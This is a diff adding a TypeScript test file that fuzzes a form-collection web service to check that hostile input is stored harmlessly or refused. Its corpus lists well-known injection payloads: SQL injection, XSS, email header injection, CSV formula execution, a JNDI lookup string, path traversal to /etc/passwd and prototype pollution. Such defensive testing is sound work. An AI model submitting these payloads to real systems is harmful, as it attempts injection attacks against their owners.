@@ -1,0 +1,213 @@
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { formNames, forms } from '../../forms/all.ts';
+import type { FormName } from '../../forms/form.ts';
+import { completeAnswers } from '../../tests/answers.ts';
+import { silentLog, startCollector } from '../../tests/collector.ts';
+import { type Postgres, startPostgres } from '../../tests/postgres.ts';
+import { queueLetters } from '../outbox/queue.ts';
+import { compose } from '../outbox/send.ts';
+import { openStore, type Store } from '../store/store.ts';
+import { eachSubmission } from '../submissions/read.ts';
+
+/** What people, programs and vandals write where a name or a message is asked for. */
+const corpus = [
+  'a'.repeat(5000),
+  'a'.repeat(60_000),
+  'null\u0000byte',
+  'ensam \ud800 surrogat',
+  '\ufeffbom',
+  'höger \u202e till vänster',
+  'rad\r\nBcc: alla@example.org\r\n\r\nHej',
+  'ämne\nX-Injected: ja',
+  "'; drop table child_applications; --",
+  '" or 1=1 --',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '</script><svg onload=alert(1)>',
+  '=cmd|/c calc!A1',
+  '@SUM(1+1)',
+  '-2+3',
+  '{{constructor.constructor("return 1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a vandal writes.
+  '${jndi:ldap://example.org/a}',
+  '../../../../etc/passwd',
+  '👩‍👩‍👧‍👦 familjen Åäö',
+  'Z̷̢a̶l̵g̷o̸',
+  '\u001b[2J\u001b[31mterminal',
+  '',
+  ' ',
+];
+
+let postgres: Postgres;
+let store: Store;
+let collector: Awaited<ReturnType<typeof startCollector>>;
+beforeAll(async () => {
+  // PostgreSQL: of the two it is the one that refuses what is not text.
+  postgres = await startPostgres();
+  store = await openStore({ databaseUrl: await postgres.createDatabase(), dataFolder: '' }, silentLog);
+  collector = await startCollector({ store, followUp: queueLetters('kollo@example.org') });
+});
+afterAll(async () => {
+  await collector.close();
+  await store.close();
+  await postgres.close();
+});
+
+/** Posts bytes, as JSON or as a browser without JavaScript does. */
+async function post(form: string, payload: string, type = 'application/json', accept = 'application/json') {
+  return collector.server.inject({
+    method: 'POST',
+    url: `/api/forms/${form}`,
+    headers: { 'content-type': type, accept },
+    payload,
+  });
+}
+
+const acceptable = [200, 400, 404, 413, 415, 422];
+const noMarkup = /<script>|<img|<svg|onerror=alert/;
+
+describe.each(formNames)('%s', (form) => {
+  const fields = Object.values(forms[form].fields).map(({ wireKey }) => wireKey);
+
+  test('every hostile text in every field is stored harmlessly or refused, and never shown back as markup', async () => {
+    for (const field of fields) {
+      for (const text of corpus) {
+        const answer = await post(form, JSON.stringify({ ...completeAnswers[form], [field]: text }));
+        expect(acceptable, `${field}: ${JSON.stringify(text.slice(0, 40))}`).toContain(answer.statusCode);
+        expect(answer.body).not.toMatch(noMarkup);
+        expect(answer.headers['content-type']).toContain('application/json');
+      }
+    }
+  });
+
+  test('no JSON whatsoever is answered with a server error', async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.json({ maxDepth: 6 }), async (payload) => {
+        expect(acceptable).toContain((await post(form, payload)).statusCode);
+      }),
+      { numRuns: 60 },
+    );
+  });
+
+  test('no values of the right keys are answered with a server error', async () => {
+    const anything = fc.oneof(
+      fc.string({ unit: 'binary' }),
+      fc.anything({ withNullPrototype: true }),
+      fc.double(),
+    );
+    const body = fc.record(Object.fromEntries(fields.map((field) => [field, anything])), {
+      requiredKeys: [],
+    });
+    await fc.assert(
+      fc.asyncProperty(body, async (values) => {
+        const payload = JSON.stringify(values, (_, value) =>
+          typeof value === 'bigint' ? String(value) : value,
+        );
+        expect(acceptable).toContain((await post(form, payload)).statusCode);
+      }),
+      { numRuns: 60 },
+    );
+  });
+
+  test('no bytes whatsoever posted as a form are answered with a server error', async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 300 }), async (payload) => {
+        const answer = await post(form, payload, 'application/x-www-form-urlencoded', 'text/html');
+        expect(acceptable).toContain(answer.statusCode);
+      }),
+      { numRuns: 60 },
+    );
+  });
+});
+
+test.each([
+  {
+    what: 'the same key twice',
+    payload: '{"Namn":"A","Namn":"B","Epost":"a@example.org","Ämne":"Annat","Meddelande":"Hej på er alla"}',
+    status: 200,
+  },
+  { what: 'a thousand levels', payload: `${'{"a":'.repeat(1000)}1${'}'.repeat(1000)}`, status: 422 },
+  {
+    what: 'ten thousand levels of lists',
+    payload: `{"Namn":${'['.repeat(10_000)}${']'.repeat(10_000)}}`,
+    status: 422,
+  },
+  { what: 'constructor.prototype', payload: '{"constructor":{"prototype":{"admin":true}}}', status: 400 },
+  { what: '__proto__', payload: '{"__proto__":{"admin":true}}', status: 400 },
+  { what: 'a huge number', payload: '{"Namn":1e999}', status: 422 },
+])('$what is answered with $status', async ({ payload, status }) => {
+  expect((await post('contact', payload)).statusCode).toBe(status);
+  expect(Reflect.get({}, 'admin')).toBeUndefined();
+});
+
+test.each([
+  'name=A&name=B',
+  '__proto__=x&__proto__[admin]=1',
+  'name[]=A&name[0]=B',
+  '%',
+  '%00%ff%fe',
+  `${'a=1&'.repeat(5000)}`,
+])('a form posted as %s is refused kindly', async (payload) => {
+  const answer = await post('contact', payload, 'application/x-www-form-urlencoded', 'text/html');
+  expect([400, 422]).toContain(answer.statusCode);
+});
+
+test('age takes no trick for a number', async () => {
+  for (const age of ['1e1', '0x0a', '10.5', ' ', 'tio', '٣', 10.5, -10, 1e300, true, [10], '2147483648']) {
+    expect(
+      (await post('child', JSON.stringify({ ...completeAnswers.child, 'Barnets ålder': age }))).statusCode,
+    ).toBe(422);
+  }
+});
+
+test('a strange key from the browser is only a key', async () => {
+  for (const key of ['', 'x'.repeat(4000), "'; drop table outbox; --", 'a, b']) {
+    const answer = await collector.send('contact', completeAnswers.contact, { 'idempotency-key': key });
+    expect(answer.status).toBe(200);
+  }
+});
+
+test('everything that was stored can be listed and written in letters, with no line of its own making', async () => {
+  const correspondence = { product: 'Kollot', from: 'a@example.org', association: 'b@example.org' };
+  let read = 0;
+  for (const form of formNames) {
+    for await (const submission of eachSubmission(store, form)) {
+      read++;
+      for (const recipient of ['association', 'sender'] as const) {
+        const letter = {
+          id: 1,
+          form: form as FormName,
+          reference: submission.reference,
+          recipient,
+          messageId: '<a@b>',
+          attempts: 1,
+          createdAt: new Date().toISOString(),
+        };
+        const { subject, to, replyTo } = compose(letter, submission, correspondence);
+        for (const header of [subject, to, replyTo.name, replyTo.address]) {
+          // biome-ignore lint/suspicious/noControlCharactersInRegex: that there are none is the point.
+          expect(header).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
+        }
+      }
+      for (const value of Object.values(submission.values)) {
+        if (typeof value === 'string') expect(value.isWellFormed()).toBe(true);
+        // biome-ignore lint/suspicious/noControlCharactersInRegex: that there are none is the point.
+        expect(String(value)).not.toMatch(/[\u0000-\u0008\u000e-\u001f\u202a-\u202e]/);
+      }
+    }
+  }
+  expect(read).toBeGreaterThan(100);
+});
+
+test('the log of all this holds none of it', () => {
+  const log = collector.lines.join('');
+  expect(log.length).toBeGreaterThan(1000);
+  for (const form of formNames) {
+    for (const answer of Object.values(completeAnswers[form])) {
+      if (typeof answer === 'string' && answer.length > 5) expect(log).not.toContain(answer);
+    }
+  }
+  for (const text of corpus) if (text.trim().length > 5) expect(log).not.toContain(text);
+  for (const line of collector.lines) expect(JSON.parse(line)).toHaveProperty('message');
+});
